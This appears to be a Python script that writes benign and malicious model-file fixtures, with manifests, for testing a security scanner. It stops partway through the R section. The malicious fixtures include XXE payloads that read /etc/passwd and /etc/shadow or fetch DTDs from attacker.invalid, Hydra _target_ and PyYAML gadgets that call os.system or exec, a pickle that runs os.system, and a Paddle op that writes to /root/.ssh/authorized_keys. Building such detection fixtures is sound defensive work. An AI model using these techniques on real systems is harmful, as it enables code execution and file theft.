#!/usr/bin/python3
"""Writes fixtures/formats/other/{benign,malicious}/ and their manifests.

    /usr/bin/python3 scripts/gen-other-fixtures.py

Model families without a Debian library (PMML, OpenVINO IR, CoreML, PaddlePaddle, Flax msgpack, XGBoost, LightGBM,
CatBoost, R, Torch7, skops, TorchServe, NeMo) are written by hand from their public formats: XML by text, protobuf
by a minimal encoder following the published .proto field numbers, msgpack/UBJSON/R-XDR/Torch7 by small encoders
below. Weights inside archives (.nemo, .mar) come from torch.save and numpy. Everything is deterministic (fixed
data, fixed archive timestamps). Malicious variants carry only the inert command 'echo bulwark-test' and are never
loaded.

Two manifests are written:
  fixtures/formats/other/manifest.json                 scanned by test/formats/manifests.test.ts
  fixtures/formats/other/json-analyzers/manifest.json  files whose analysis needs otherJsonAnalyzers registered in
                                                       src/scan/formats/json/json-scanner.ts (skops, TorchServe,
                                                       XGBoost JSON); scanned by test/formats/other/json-analyzers.test.ts
"""
from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import pathlib
import pickle
import shutil
import struct
import sys
import tarfile
import zipfile

import numpy as np

HERE = pathlib.Path(__file__).resolve().parent
OUT = HERE.parent / 'fixtures' / 'formats' / 'other'
CMD = 'echo bulwark-test'
FIXED_TIME = 1700000000
ZIP_TIME = (2023, 11, 14, 22, 13, 20)

# ------------------------------------------------------------------------------------------------------ helpers


def varint(n: int) -> bytes:
    if n < 0:
        n += 1 << 64
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def pb_varint(field: int, v: int) -> bytes:
    return varint(field << 3) + varint(v)


def pb_bytes(field: int, b: bytes | str) -> bytes:
    if isinstance(b, str):
        b = b.encode()
    return varint((field << 3) | 2) + varint(len(b)) + b


def pb_float(field: int, v: float) -> bytes:
    return varint((field << 3) | 5) + struct.pack('<f', v)


def pb_double(field: int, v: float) -> bytes:
    return varint((field << 3) | 1) + struct.pack('<d', v)


class Pwn:
    def __reduce__(self):
        return (os.system, (CMD,))


def zip_bytes(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', zipfile.ZIP_STORED) as z:
        for name, data in members:
            z.writestr(zipfile.ZipInfo(name, date_time=ZIP_TIME), data)
    return buf.getvalue()


def tar_bytes(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode='w', format=tarfile.USTAR_FORMAT) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = FIXED_TIME
            info.uid = info.gid = 0
            info.uname = info.gname = 'root'
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def gz(data: bytes) -> bytes:
    return gzip.compress(data, compresslevel=6, mtime=0)


def torch_state_dict_bytes() -> bytes:
    import torch
    torch.manual_seed(0)
    sd = {'encoder.weight': torch.randn(4, 3), 'encoder.bias': torch.zeros(4), 'decoder.weight': torch.randn(2, 4)}
    buf = io.BytesIO()
    torch.save(sd, buf)
    # torch.save embeds the record name 'archive' and no timestamps; the bytes are deterministic for fixed tensors.
    return buf.getvalue()


entries: list[dict] = []
json_entries: list[dict] = []


def put(rel: str, data: bytes | str, label: str, cls: str, verdict: str, rules: list[str] | None = None,
        formats: list[str] | None = None, note: str = '', json_analyzer: bool = False) -> None:
    if isinstance(data, str):
        data = data.encode()
    base = OUT / 'json-analyzers' if json_analyzer else OUT
    p = base / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(data)
    e: dict = {'path': rel, 'label': label, 'class': cls, 'expect': {'verdict': verdict}}
    if rules:
        e['expect']['rules'] = rules
    if formats:
        e['expect']['formats'] = formats
    if note:
        e['note'] = note
    e['sha256'] = hashlib.sha256(data).hexdigest()
    (json_entries if json_analyzer else entries).append(e)


M = 'malicious'
B = 'benign'

# ----------------------------------------------------------------------------------------------------------- PMML

PMML_BODY = '''<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4">
  <Header copyright="Bulwark fixtures" description="{desc}">
    <Application name="hand-written" version="1.0"/>
    <Timestamp>2023-11-14T22:13:20Z</Timestamp>
  </Header>
  <DataDictionary numberOfFields="3">
    <DataField name="petal_length" optype="continuous" dataType="double"/>
    <DataField name="petal_width" optype="continuous" dataType="double"/>
    <DataField name="species" optype="categorical" dataType="string">
      <Value value="setosa"/>
      <Value value="versicolor"/>
      <Value value="virginica"/>
    </DataField>
  </DataDictionary>
  <TreeModel modelName="iris_tree" functionName="classification" splitCharacteristic="binarySplit">
    <MiningSchema>
      <MiningField name="petal_length"/>
      <MiningField name="petal_width"/>
      <MiningField name="species" usageType="target"/>
    </MiningSchema>
    <Node id="0" score="setosa" recordCount="150">
      <True/>
      <Node id="1" score="setosa" recordCount="50">
        <SimplePredicate field="petal_length" operator="lessOrEqual" value="2.45"/>
      </Node>
      <Node id="2" score="versicolor" recordCount="100">
        <SimplePredicate field="petal_length" operator="greaterThan" value="2.45"/>
        <Node id="3" score="versicolor" recordCount="54">
          <SimplePredicate field="petal_width" operator="lessOrEqual" value="1.75"/>
        </Node>
        <Node id="4" score="virginica" recordCount="46">
          <SimplePredicate field="petal_width" operator="greaterThan" value="1.75"/>
        </Node>
      </Node>
    </Node>
  </TreeModel>{extra}
</PMML>
'''


def pmml(desc: str = 'Iris decision tree &amp; example', extra: str = '', prolog: str = '') -> str:
    return '<?xml version="1.0" encoding="UTF-8"?>\n' + prolog + PMML_BODY.format(desc=desc, extra=extra)


def gen_pmml() -> None:
    put('benign/iris-tree.pmml', pmml(), B, 'writer: hand-written PMML 4.4 TreeModel', 'clean', formats=['pmml'])
    put('malicious/pmml-xxe-file.pmml',
        pmml(desc='&xxe;', prolog='<!DOCTYPE PMML [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'), M,
        'XXE: external entity reading a local file', 'malicious', ['BW-FMT-002'], ['pmml'])
    put('malicious/pmml-xxe-oob.pmml',
        pmml(prolog='<!DOCTYPE PMML [\n  <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd">\n  %remote;\n]>\n'),
        M, 'XXE: out-of-band parameter entity fetching a remote DTD', 'malicious', ['BW-FMT-002'], ['pmml'])
    put('malicious/pmml-external-dtd.pmml',
        pmml(prolog='<!DOCTYPE PMML SYSTEM "http://attacker.invalid/pmml.dtd">\n'), M,
        'XXE: external DTD subset', 'malicious', ['BW-FMT-002'], ['pmml'])
    put('malicious/pmml-xinclude.pmml',
        pmml(extra='\n  <Extension xmlns:xi="http://www.w3.org/2001/XInclude">\n'
                   '    <xi:include href="file:///etc/passwd" parse="text"/>\n  </Extension>'), M,
        'XInclude pulling a local file', 'malicious', ['BW-FMT-003'], ['pmml'])
    laughs = '<!DOCTYPE PMML [\n  <!ENTITY lol "lol">\n' + ''.join(
        f'  <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10)) + ']>\n'
    put('malicious/pmml-billion-laughs.pmml', pmml(desc='&lol9;', prolog=laughs), M,
        'entity expansion (billion laughs)', 'suspicious', ['BW-FMT-004'], ['pmml'])
    put('malicious/pmml-malformed.pmml', pmml().replace('</TreeModel>', ''), M,
        'malformed: unclosed element', 'inconclusive', ['BW-FMT-005'], ['pmml'])


# ---------------------------------------------------------------------------------------------------- OpenVINO IR

def openvino(layers_extra: str = '', prolog: str = '', custom: bool = False, rt: str = '') -> str:
    op3 = ('<layer id="3" name="custom_act" type="MyCustomActivation" version="custom_opset">\n'
           '\t\t\t<data alpha="0.5"/>\n' if custom else
           '<layer id="3" name="relu" type="ReLU" version="opset1">\n')
    return f'''<?xml version="1.0"?>
{prolog}<net name="tiny_mlp" version="11">
	<layers>
		<layer id="0" name="input" type="Parameter" version="opset1">
			<data shape="1,4" element_type="f32"/>
			<output>
				<port id="0" precision="FP32" names="input"><dim>1</dim><dim>4</dim></port>
			</output>
		</layer>
		<layer id="1" name="/fc/Constant" type="Const" version="opset1">
			<data element_type="f32" shape="4,2" offset="0" size="32"/>
			<output>
				<port id="0" precision="FP32"><dim>4</dim><dim>2</dim></port>
			</output>
		</layer>
		<layer id="2" name="/fc/MatMul" type="MatMul" version="opset1">
			<data transpose_a="false" transpose_b="false"/>
			<input>
				<port id="0" precision="FP32"><dim>1</dim><dim>4</dim></port>
				<port id="1" precision="FP32"><dim>4</dim><dim>2</dim></port>
			</input>
			<output>
				<port id="2" precision="FP32"><dim>1</dim><dim>2</dim></port>
			</output>
		</layer>
		{op3}			<input>
				<port id="0" precision="FP32"><dim>1</dim><dim>2</dim></port>
			</input>
			<output>
				<port id="1" precision="FP32" names="output"><dim>1</dim><dim>2</dim></port>
			</output>
		</layer>
		<layer id="4" name="output" type="Result" version="opset1">
			<input>
				<port id="0" precision="FP32"><dim>1</dim><dim>2</dim></port>
			</input>
		</layer>{layers_extra}
	</layers>
	<edges>
		<edge from-layer="0" from-port="0" to-layer="2" to-port="0"/>
		<edge from-layer="1" from-port="0" to-layer="2" to-port="1"/>
		<edge from-layer="2" from-port="2" to-layer="3" to-port="0"/>
		<edge from-layer="3" from-port="1" to-layer="4" to-port="0"/>
	</edges>
	<rt_info>
		<MO_version value="2023.3.0"/>
		<Runtime_version value="2023.3.0"/>
		<conversion_parameters>
			<input_model value="DIR/tiny_mlp.onnx"/>
		</conversion_parameters>{rt}
	</rt_info>
</net>
'''


def gen_openvino() -> None:
    put('benign/openvino-ir.xml', openvino(), B, 'writer: hand-written OpenVINO IR v11 (opset1)', 'clean',
        formats=['openvino-ir'])
    put('malicious/openvino-custom-op.xml', openvino(custom=True), M,
        'custom operation needing an extension library', 'suspicious', ['BW-FMT-006'], ['openvino-ir'])
    put('malicious/openvino-xxe.xml',
        openvino(prolog='<!DOCTYPE net [\n  <!ENTITY xxe SYSTEM "file:///etc/shadow">\n]>\n',
                 rt='\n\t\t<leak value="&xxe;"/>'), M,
        'XXE in an OpenVINO IR', 'malicious', ['BW-FMT-002'], ['openvino-ir'])
    put('malicious/openvino-external-ref.xml',
        openvino(rt='\n\t\t<extension_path value="http://attacker.invalid/libcustom.so"/>'
                    '\n\t\t<cache value="../../../../etc/ld.so.preload"/>'), M,
        'external references (URL, traversal) in rt_info', 'suspicious', ['BW-FMT-007'], ['openvino-ir'])


# --------------------------------------------------------------------------------------------- Hydra / NeMo YAML

NEMO_CONFIG = '''sample_rate: 16000
log_prediction: true
ctc_reduction: mean_batch
labels: [" ", "a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l", "m", "n", "o", "p", "q", "r", "s", "t", "u", "v", "w", "x", "y", "z", "'"]
train_ds:
  manifest_filepath: null
  sample_rate: 16000
  batch_size: 32
  shuffle: true
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  normalize: per_feature
  window_size: 0.025
  sample_rate: 16000
  window_stride: 0.01
  window: hann
  features: 64
  n_fft: 512
spec_augment:
  _target_: nemo.collections.asr.modules.SpectrogramAugmentation
  freq_masks: 2
  time_masks: 2
encoder:
  _target_: {encoder}
  feat_in: 64
  activation: relu
  jasper:
  - filters: 256
    repeat: 1
    kernel: [33]
    stride: [2]
    dilation: [1]
    dropout: 0.0
    residual: false
decoder:
  _target_: nemo.collections.asr.modules.ConvASRDecoder
  feat_in: 256
  num_classes: 28
optim:
  name: novograd
  lr: 0.01
  sched:
    name: CosineAnnealing
    warmup_steps: 1000
target: nemo.collections.asr.models.ctc_models.EncDecCTCModel
nemo_version: 1.20.0
'''


def nemo_archive(config: str) -> bytes:
    return tar_bytes([('./model_config.yaml', config.encode()), ('./model_weights.ckpt', torch_state_dict_bytes())])


def gen_nemo() -> None:
    enc = 'nemo.collections.asr.modules.ConvASREncoder'
    put('benign/nemo-asr.nemo', nemo_archive(NEMO_CONFIG.format(encoder=enc)), B,
        'writer: hand-written NeMo ASR config + torch.save weights in a tar (.nemo layout)', 'clean',
        formats=['tar', 'nemo-config', 'pytorch-zip'])
    put('malicious/nemo-target-os-system.nemo',
        nemo_archive(NEMO_CONFIG.format(encoder='os.system') .replace('  feat_in: 64\n', f'  _args_: ["{CMD}"]\n', 1)), M,
        'Hydra _target_ code execution (CVE-2025-23304): os.system', 'malicious', ['BW-FMT-012'], ['tar', 'nemo-config'])
    put('malicious/nemo-target-alias.nemo',
        nemo_archive(NEMO_CONFIG.format(encoder='nemo.core.classes.common.os.system')), M,
        'Hydra _target_ attribute alias: nemo.core.classes.common.os.system resolves to os.system', 'malicious',
        ['BW-FMT-012'], ['tar', 'nemo-config'])
    put('malicious/nemo-target-foreign.nemo',
        nemo_archive(NEMO_CONFIG.format(encoder='evil_pkg.loaders.RemoteLoader')), M,
        'Hydra _target_ outside the NeMo namespaces (CVE-2025-23304)', 'malicious', ['BW-FMT-012'],
        ['tar', 'nemo-config'])
    put('malicious/nemo-target-gz.nemo', gz(nemo_archive(NEMO_CONFIG.format(encoder='subprocess.Popen'))), M,
        'Hydra _target_ subprocess.Popen in a gzip-compressed .nemo', 'malicious', ['BW-FMT-012'],
        ['gzip', 'tar', 'nemo-config'])
    put('malicious/nemo-alias-anchor.yaml', NEMO_CONFIG.format(encoder='nemo.collections.asr.modules.ConvASREncoder')
        + 'helper: &fn builtins.exec\nhook:\n  _target_: *fn\n  _args_: ["import os; os.system(\'' + CMD + '\')"]\n', M,
        'Hydra _target_ hidden behind a YAML alias (builtins.exec)', 'malicious', ['BW-FMT-012'], ['yaml', 'nemo-config'])
    put('benign/hydra-train.yaml', '''# Hydra training config
defaults:
  - _self_
seed: 42
model:
  _target_: torch.nn.Sequential
optimizer:
  _target_: torch.optim.AdamW
  lr: 3.0e-4
  weight_decay: 0.01
scheduler:
  _target_: torch.optim.lr_scheduler.CosineAnnealingLR
  T_max: 1000
loss:
  _target_: torch.nn.CrossEntropyLoss
trainer:
  _target_: pytorch_lightning.Trainer
  max_epochs: 10
  accelerator: auto
tokenizer:
  _target_: transformers.AutoTokenizer.from_pretrained
  pretrained_model_name_or_path: bert-base-uncased
''', B, 'writer: hand-written Hydra config (torch, lightning, transformers targets)', 'clean', formats=['yaml'])
    put('malicious/hydra-builtins-exec.yaml', f'''callback:
  _target_: builtins.exec
  _args_:
    - "import os; os.system('{CMD}')"
''', M, 'Hydra _target_ builtins.exec in a generic config', 'malicious', ['BW-FMT-012'], ['yaml'])
    put('malicious/hydra-unknown-target.yaml', '''model:
  _target_: my_research_lib.models.ResNetWithHooks
  depth: 50
''', M, 'Hydra _target_ outside known ML namespaces (review)', 'suspicious', ['BW-FMT-013'], ['yaml'])
    put('malicious/yaml-python-tag.yaml', f'''model: resnet50
callbacks: !!python/object/apply:os.system ["{CMD}"]
''', M, 'PyYAML unsafe-load gadget: !!python/object/apply', 'malicious', ['BW-FMT-014'], ['yaml'])
    put('benign/plain-config.yaml', '''# ordinary YAML without targets
name: my-model
license: apache-2.0
training:
  epochs: 3
  lr: 0.001
''', B, 'writer: hand-written YAML without _target_', 'clean', formats=['yaml'])


# ------------------------------------------------------------------------------------------------------- CoreML

def feature(name: str, type_field: int) -> bytes:
    # FeatureDescription {name = 1; shortDescription = 2; type = 3 (FeatureType: int64Type=1, doubleType=2, ...)}
    ftype = pb_bytes(type_field, b'')
    return pb_bytes(1, name) + pb_bytes(2, f'{name} feature') + pb_bytes(3, ftype)


def coreml_model(body: bytes, spec: int = 4) -> bytes:
    desc = pb_bytes(1, feature('x', 2)) + pb_bytes(10, feature('y', 2)) + pb_bytes(11, 'y')
    meta = pb_bytes(1, 'Bulwark fixture') + pb_bytes(3, 'bulwark') + pb_bytes(4, 'Apache-2.0')
    desc += pb_bytes(100, meta)
    return pb_varint(1, spec) + pb_bytes(2, desc) + body


def gen_coreml() -> None:
    # GLMRegressor (300): weights = 1 (repeated DoubleArray {repeated double value = 1}), offset = 2
    glm = pb_bytes(1, pb_bytes(1, b''.join(struct.pack('<d', v) for v in (0.5, -1.25)))) + pb_bytes(2, struct.pack('<d', 0.1))
    put('benign/glm-regressor.mlmodel', coreml_model(pb_bytes(300, glm), spec=1), B,
        'writer: hand-encoded CoreML spec (GLMRegressor)', 'clean', formats=['coreml'])
    # NeuralNetwork (500) with one innerProduct layer (140): InnerProductLayerParams {inputChannels=1, outputChannels=2, weights=20}
    weights = pb_bytes(1, b''.join(struct.pack('<f', v) for v in (0.1, 0.2, 0.3, 0.4)))
    ip = pb_varint(1, 2) + pb_varint(2, 2) + pb_bytes(20, weights)
    layer = pb_bytes(1, 'dense') + pb_bytes(2, 'x') + pb_bytes(3, 'y') + pb_bytes(140, ip)
    put('benign/neural-network.mlmodel', coreml_model(pb_bytes(500, pb_bytes(1, layer))), B,
        'writer: hand-encoded CoreML spec (NeuralNetwork, innerProduct)', 'clean', formats=['coreml'])
    custom = pb_bytes(10, 'BWEvilLayer') + pb_bytes(40, 'needs native code')
    clayer = pb_bytes(1, 'custom0') + pb_bytes(2, 'x') + pb_bytes(3, 'y') + pb_bytes(500, custom)
    # wrap the custom layer in a branch layer's ifBranch network to check nesting
    branch = pb_bytes(1, pb_bytes(1, clayer))
    blayer = pb_bytes(1, 'branch0') + pb_bytes(2, 'x') + pb_bytes(3, 'y') + pb_bytes(605, branch)
    put('malicious/custom-layer.mlmodel', coreml_model(pb_bytes(500, pb_bytes(1, layer) + pb_bytes(1, blayer))), M,
        'CoreML custom layer (native class) inside a branch', 'suspicious', ['BW-FMT-008'], ['coreml'])
    put('malicious/custom-model.mlmodel',
        coreml_model(pb_bytes(555, pb_bytes(10, 'BWCustomModel') + pb_bytes(40, 'custom model')), spec=3), M,
        'CoreML CustomModel (native class)', 'suspicious', ['BW-FMT-008'], ['coreml'])
    linked = pb_bytes(1, pb_bytes(1, pb_bytes(1, '../../../../../private/var/evil.mlmodelc'))
                      + pb_bytes(2, pb_bytes(1, '$BUNDLE_MAIN')))
    pipeline = pb_bytes(1, coreml_model(pb_bytes(556, linked)))
    put('malicious/linked-model-traversal.mlmodel', coreml_model(pb_bytes(202, pipeline)), M,
        'CoreML linked model path traversal (inside a pipeline)', 'suspicious', ['BW-FMT-007'], ['coreml'])
    put('malicious/truncated.mlmodel', coreml_model(pb_bytes(500, pb_bytes(1, layer)))[:-7], M,
        'malformed: truncated CoreML spec', 'inconclusive', ['BW-FMT-005'], ['coreml'])


# ------------------------------------------------------------------------------------------------------- Paddle

def paddle_op(op_type: str, inputs: dict[str, list[str]], outputs: dict[str, list[str]],
              attrs: list[tuple[str, int, bytes]] = ()) -> bytes:
    out = b''
    for k, v in inputs.items():
        out += pb_bytes(1, pb_bytes(1, k) + b''.join(pb_bytes(2, a) for a in v))
    for k, v in outputs.items():
        out += pb_bytes(2, pb_bytes(1, k) + b''.join(pb_bytes(2, a) for a in v))
    out += pb_bytes(3, op_type)
    for name, atype, payload in attrs:
        out += pb_bytes(4, pb_bytes(1, name) + pb_varint(2, atype) + payload)
    return out


def paddle_var(name: str, persistable: bool = False) -> bytes:
    # VarDesc {name = 1; type = 2 (VarType {type = 1 (LOD_TENSOR = 7)}); persistable = 3}
    return pb_bytes(1, name) + pb_bytes(2, pb_varint(1, 7)) + pb_varint(3, 1 if persistable else 0)


def paddle_program(ops: list[bytes]) -> bytes:
    block = pb_varint(1, 0) + pb_varint(2, -1)
    for v in ('feed', 'x', 'w', 'b', 'h', 'y', 'fetch'):
        block += pb_bytes(3, paddle_var(v, v in ('w', 'b')))
    for op in ops:
        block += pb_bytes(4, op)
    block += pb_varint(5, -1)
    version = pb_varint(1, 2005000)
    return pb_bytes(1, block) + pb_bytes(4, version)


def gen_paddle() -> None:
    STR, INT = 2, 0
    base = [
        paddle_op('feed', {'X': ['feed']}, {'Out': ['x']}, [('col', INT, pb_varint(3, 0))]),
        paddle_op('matmul_v2', {'X': ['x'], 'Y': ['w']}, {'Out': ['h']}),
        paddle_op('elementwise_add', {'X': ['h'], 'Y': ['b']}, {'Out': ['y']}, [('axis', INT, pb_varint(3, -1))]),
        paddle_op('relu', {'X': ['y']}, {'Out': ['y']}),
        paddle_op('fetch', {'X': ['y']}, {'Out': ['fetch']}, [('col', INT, pb_varint(3, 0))]),
    ]
    put('benign/inference.pdmodel', paddle_program(base), B,
        'writer: hand-encoded PaddlePaddle ProgramDesc (feed/matmul/add/relu/fetch)', 'clean',
        formats=['paddle-program'])
    evil = base[:4] + [
        paddle_op('py_func', {'X': ['y']}, {'Out': ['y']}, [('forward_callable_id', INT, pb_varint(3, 0))]),
        paddle_op('save_combine', {'X': ['w', 'b']}, {},
                  [('file_path', STR, pb_bytes(5, '/root/.ssh/authorized_keys'))]),
    ] + base[4:]
    put('malicious/py-func-and-save.pdmodel', paddle_program(evil), M,
        'PaddlePaddle py_func and file-writing operators', 'suspicious', ['BW-FMT-016'], ['paddle-program'])
    put('malicious/model.pdparams', pickle.dumps(Pwn(), protocol=2), M,
        'pickle: .pdparams is a pickle; this one calls os.system', 'malicious', ['BW-PKL-001'], ['pickle'])


# ------------------------------------------------------------------------------------------------ Flax / msgpack

def mp(v) -> bytes:
    """Minimal msgpack encoder (what msgpack-python writes with use_bin_type=True)."""
    if v is None:
        return b'\xc0'
    if v is True:
        return b'\xc3'
    if v is False:
        return b'\xc2'
    if isinstance(v, int):
        if 0 <= v <= 0x7F:
            return bytes([v])
        if -32 <= v < 0:
            return struct.pack('b', v)
        if 0 <= v <= 0xFFFF:
            return b'\xcd' + struct.pack('>H', v)
        return b'\xd3' + struct.pack('>q', v)
    if isinstance(v, float):
        return b'\xcb' + struct.pack('>d', v)
    if isinstance(v, str):
        b = v.encode()
        return (bytes([0xA0 | len(b)]) if len(b) < 32 else b'\xd9' + bytes([len(b)])) + b
    if isinstance(v, (bytes, bytearray)):
        return (b'\xc4' + bytes([len(v)]) if len(v) < 256 else b'\xc5' + struct.pack('>H', len(v))) + bytes(v)
    if isinstance(v, Ext):
        n = len(v.data)
        if n in (1, 2, 4, 8, 16):
            return bytes([{1: 0xD4, 2: 0xD5, 4: 0xD6, 8: 0xD7, 16: 0xD8}[n]]) + struct.pack('b', v.code) + v.data
        return (b'\xc7' + bytes([n]) if n < 256 else b'\xc8' + struct.pack('>H', n)) + struct.pack('b', v.code) + v.data
    if isinstance(v, (list, tuple)):
        return bytes([0x90 | len(v)]) + b''.join(mp(x) for x in v)
    if isinstance(v, dict):
        return bytes([0x80 | len(v)]) + b''.join(mp(k) + mp(x) for k, x in v.items())
    raise TypeError(v)


class Ext:
    def __init__(self, code: int, data: bytes):
        self.code, self.data = code, data


def nd(arr: np.ndarray, dtype_name: str | None = None) -> Ext:
    # flax.serialization: ext code 1 = ndarray, payload msgpack((shape, dtype.name, bytes))
    return Ext(1, mp((list(arr.shape), dtype_name or arr.dtype.name, arr.tobytes())))


def gen_flax() -> None:
    rng = np.random.default_rng(1)
    params = {'params': {
        'Dense_0': {'bias': nd(np.zeros(4, np.float32)), 'kernel': nd(rng.standard_normal((3, 4)).astype(np.float32))},
        'Dense_1': {'bias': nd(np.zeros(2, np.float32)), 'kernel': nd(rng.standard_normal((4, 2)).astype(np.float32))},
        'step': Ext(3, mp(('int32', np.int32(100).tobytes()))),
    }}
    # One top-level key, as flax.serialization.to_bytes(model.init(...)) writes ({'params': ...}).
    put('benign/flax-params.msgpack', mp(params), B,
        'writer: hand-encoded msgpack in flax.serialization layout (ndarray/npscalar ext codes)', 'clean',
        formats=['flax-msgpack'])
    evil = {'params': {'Dense_0': {'bias': nd(np.zeros(2, np.float32)), 'kernel': Ext(42, b'\x01payload')}}}
    put('malicious/flax-unknown-ext.msgpack', mp(evil), M, 'msgpack extension type not written by flax',
        'suspicious', ['BW-FMT-015'], ['flax-msgpack'])
    obj = {'params': {'Dense_0': {'bias': nd(np.zeros(2, np.float32), 'object')}}}
    put('malicious/flax-object-dtype.msgpack', mp(obj), M, 'flax ndarray declaring an object dtype', 'suspicious',
        ['BW-FMT-015'], ['flax-msgpack'])
    put('malicious/flax-truncated.msgpack', mp(params)[:-40], M, 'malformed: truncated msgpack', 'inconclusive',
        ['BW-FMT-005'], ['msgpack'])


# ----------------------------------------------------------------------------- XGBoost / LightGBM / CatBoost

XGB_MODEL = {
    'learner': {
        'attributes': {},
        'feature_names': ['f0', 'f1'],
        'feature_types': ['float', 'float'],
        'gradient_booster': {
            'model': {
                'gbtree_model_param': {'num_parallel_tree': '1', 'num_trees': '1'},
                'iteration_indptr': [0, 1],
                'tree_info': [0],
                'trees': [{
                    'base_weights': [0.0, -0.4, 0.4], 'categories': [], 'categories_nodes': [],
                    'categories_segments': [], 'categories_sizes': [], 'default_left': [1, 0, 0], 'id': 0,
                    'left_children': [1, -1, -1], 'loss_changes': [1.5, 0.0, 0.0], 'parents': [2147483647, 0, 0],
                    'right_children': [2, -1, -1], 'split_conditions': [0.5, -0.4, 0.4], 'split_indices': [0, 0, 0],
                    'split_type': [0, 0, 0], 'sum_hessian': [10.0, 5.0, 5.0],
                    'tree_param': {'num_deleted': '0', 'num_feature': '2', 'num_nodes': '3', 'size_leaf_vector': '1'},
                }],
            },
            'name': 'gbtree',
        },
        'learner_model_param': {'base_score': '5E-1', 'boost_from_average': '1', 'num_class': '0',
                                'num_feature': '2', 'num_target': '1'},
        'objective': {'name': 'binary:logistic', 'reg_loss_param': {'scale_pos_weight': '1'}},
    },
    'version': [2, 0, 3],
}


def ubj(v) -> bytes:
    """UBJSON as XGBoost writes it: keys as length-prefixed strings without the 'S' marker."""
    if isinstance(v, bool):
        return b'T' if v else b'F'
    if isinstance(v, int):
        return b'L' + struct.pack('>q', v)
    if isinstance(v, float):
        return b'd' + struct.pack('>f', v)
    if isinstance(v, str):
        b = v.encode()
        return b'S' + b'L' + struct.pack('>q', len(b)) + b
    if isinstance(v, list):
        return b'[' + b''.join(ubj(x) for x in v) + b']'
    if isinstance(v, dict):
        out = b'{'
        for k, x in v.items():
            kb = k.encode()
            out += b'L' + struct.pack('>q', len(kb)) + kb + ubj(x)
        return out + b'}'
    raise TypeError(v)


LIGHTGBM = '''tree
version=v4
num_class=1
num_tree_per_iteration=1
label_index=0
max_feature_idx=1
objective=binary sigmoid:1
feature_names=f0 f1
feature_infos=[0:1] [0:1]
tree_sizes=380

Tree=0
num_leaves=2
num_cat=0
split_feature=0
split_gain=12.5
threshold=0.50000000000000011
decision_type=2
left_child=-1
right_child=-2
leaf_value=-0.40000000000000002 0.40000000000000002
leaf_weight=5 5
leaf_count=5 5
internal_value=0
internal_weight=10
internal_count=10
is_linear=0
shrinkage=1


end of trees

feature_importances:
f0=1

parameters:
[boosting: gbdt]
[objective: binary]
[num_iterations: 1]
[learning_rate: 0.1]

end of parameters

pandas_categorical:null
'''


def gen_trees() -> None:
    put('benign/xgboost-model.ubj', ubj(XGB_MODEL), B, 'writer: hand-encoded XGBoost UBJSON model', 'clean',
        ['BW-FMT-001'], ['xgboost-ubj'])
    legacy = b'binf' + struct.pack('<fIi', 0.5, 2, 0) + bytes(116) + struct.pack('<Q', 15) + b'binary:logistic' \
        + struct.pack('<Q', 6) + b'gbtree' + bytes(64)
    put('benign/xgboost-legacy.bin', legacy, B, 'writer: hand-encoded XGBoost legacy binary header', 'clean',
        ['BW-FMT-001'], ['xgboost-binary'])
    put('benign/lightgbm-model.txt', LIGHTGBM, B, 'writer: hand-written LightGBM text model (v4)', 'clean',
        ['BW-FMT-001'], ['lightgbm-text'])
    cbm = b'CBM1' + struct.pack('<I', 48) + bytes([0x0c, 0, 0, 0, 0x08, 0, 0x0c, 0, 0x04, 0, 0x08, 0]) + bytes(36) \
        + b'\x00' * 16
    put('benign/catboost-model.cbm', cbm, B, 'writer: hand-encoded CatBoost CBM1 header', 'clean', ['BW-FMT-001'],
        ['catboost'])


# --------------------------------------------------------------------------------------------------- R / Torch7

def r_xdr_stream(item: bytes) -> bytes:
    # serialize() version 3: 'X\n', version 3, R 4.3.1 (0x040301), min reader 3.5.0 (0x030500), native encoding
    return b'X\n' + struct.pack('>iii', 3, 0x040301, 0x030500) + struct.pack('>i', 5) + b'UTF-8' + item


def rf(sxptype: int, levels: int = 0, obj: bool = False, attr: bool = False, tag: bool = False) -> bytes:
    """Item flags: type | OBJECT << 8 | has-attribute << 9 | has-tag << 10 | levels << 12."""
    return struct.pack('>i', sxptype | (obj << 8) | (attr << 9) | (tag << 10) | (levels << 12))


NIL, GLOBALENV, UNBOUND, MISSING = (struct.pack('>i', v) for v in (254, 253, 252, 251))


def r_char(s: str) -> bytes:
    b = s.encode()
    return rf(9, levels=64) + struct.pack('>i', len(b)) + b  # ASCII CHARSXP


def r_sym(s: str) -> bytes:
    return rf(1) + r_char(s)


def r_str(*xs: str) -> bytes:
    return rf(16) + struct.pack('>i', len(xs)) + b''.join(r_char(x) for x in xs)


def r_intsxp(values: list[int]) -> bytes:
    return rf(13) + struct.pack('>i', len(values)) + b''.join(struct.pack('>i', v) for v in values)


def r_real(*xs: float) -> bytes:
    return rf(14) + struct.pack('>i', len(xs)) + b''.join(struct.pack('>d', x) for x in xs)


def r_call(fn: str, *args: bytes) -> bytes:
    out = rf(6) + r_sym(fn)
    for a in args:
        out += rf(2) + a
    return out + NIL


def r_attrs(**kv: bytes) -> bytes:
    out = b''
    for k, v in kv.items():
        out += rf(2, tag=True) + r_sym(k) + v
    return out + NIL


def gen_r_torch7() -> None:
    put('benign/model.rds', gz(r_xdr_stream(r_intsxp([1, 2, 3]))), B,
        'writer: hand-encoded R serialize() v3 XDR stream, gzip-compressed (saveRDS layout)', 'clean',
        formats=['gzip', 'r-serialized'])
    # list(coefficients = c(1.5, 2), call = quote(lm(y ~ x)), predict = function(x) x + 1), class "lm"
